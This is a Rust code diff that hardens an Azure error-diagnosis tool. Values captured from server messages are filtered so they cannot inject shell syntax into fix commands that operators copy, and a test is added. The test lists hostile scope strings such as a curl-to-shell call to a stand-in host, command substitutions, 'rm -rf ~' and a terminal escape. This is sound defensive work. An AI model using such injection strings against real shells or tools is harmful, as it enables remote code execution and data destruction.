@@ -286,15 +286,14 @@ impl ServiceErrors {
             if let Some(found) = capture.captures(subject.text) {
                 for name in capture.capture_names().flatten() {
                     if let Some(value) = found.name(name) {
-                        // Captured from a server's words: it lands in titles and commands.
-                        values.entry(name.to_owned()).or_insert_with(|| {
-                            crate::scrub::printable(
-                                value.as_str().trim(),
-                                crate::scrub::Style::Text {
-                                    keep_newlines: false,
-                                },
-                            )
-                        });
+                        // Captured from a server's words, and it lands in commands the operator
+                        // copies: a value a shell would read as more than a word is not used
+                        // (the fix shows <name>; the message itself is still quoted).
+                        if is_shell_word(value.as_str().trim()) {
+                            values
+                                .entry(name.to_owned())
+                                .or_insert_with(|| value.as_str().trim().to_owned());
+                        }
                     }
                 }
             }
@@ -415,6 +414,16 @@ fn trailing_slash(actual: &str, wanted: &str, subject: &Subject, rule: &Rule) ->
         .evidence(said(subject))
 }
 
+/// Ids, names, scopes and actions as Azure writes them: nothing a shell would split, expand or
+/// run (no space, quote, `;`, `|`, `&`, `$`, backtick, redirection or control character).
+fn is_shell_word(value: &str) -> bool {
+    !value.is_empty()
+        && value.len() <= 1024
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._-/:@#+=,()~[]".contains(c))
+}
+
 /// `*.vault.azure.net` matches `kv.vault.azure.net`; a plain host matches itself.
 fn host_matches(pattern: &str, host: &str) -> bool {
     match pattern.strip_prefix("*.") {
@@ -482,6 +491,50 @@ mod tests {
             "a/read at {arm_scope}"
         );
         assert_eq!(fill("[].{name:id} {other}", true), "[].{name:id} {other}");
+    }
+
+    /// A hostile server cannot plant a command in a fix the operator copies.
+    #[test]
+    fn captured_values_that_a_shell_would_split_never_fill_a_fix() {
+        let errors = ServiceErrors::builtin();
+        let message = |scope: &str| {
+            format!(
+                "AuthorizationFailed: The client 'x' with object id '99999999-8888-4777-8666-555555555555' \
+                 does not have authorization to perform action 'Microsoft.Resources/read' over scope '{scope}'"
+            )
+        };
+        let codes = ["AuthorizationFailed".to_owned()];
+        let fix = |text: &str| {
+            let subject = Subject {
+                text,
+                quote: text,
+                codes: &codes,
+                status: Some(403),
+                called: None,
+                urls: &[],
+                audience: None,
+            };
+            let findings = errors.findings(&subject, &FixContext::default());
+            findings[0]
+                .labelled_fix("az")
+                .unwrap_or_default()
+                .to_owned()
+        };
+        let good = fix(&message("/subscriptions/0b1c/resourceGroups/rg-(prod)_1.x"));
+        assert!(
+            good.ends_with("--scope /subscriptions/0b1c/resourceGroups/rg-(prod)_1.x"),
+            "{good}"
+        );
+        for hostile in [
+            "/x; curl evil.example|sh",
+            "/x$(id)",
+            "/x`id`",
+            "/x && rm -rf ~",
+            "/x\u{1b}]0;t",
+        ] {
+            let fix = fix(&message(hostile));
+            assert!(fix.ends_with("--scope <arm-scope>"), "{hostile}: {fix}");
+        }
     }
 
     #[test]
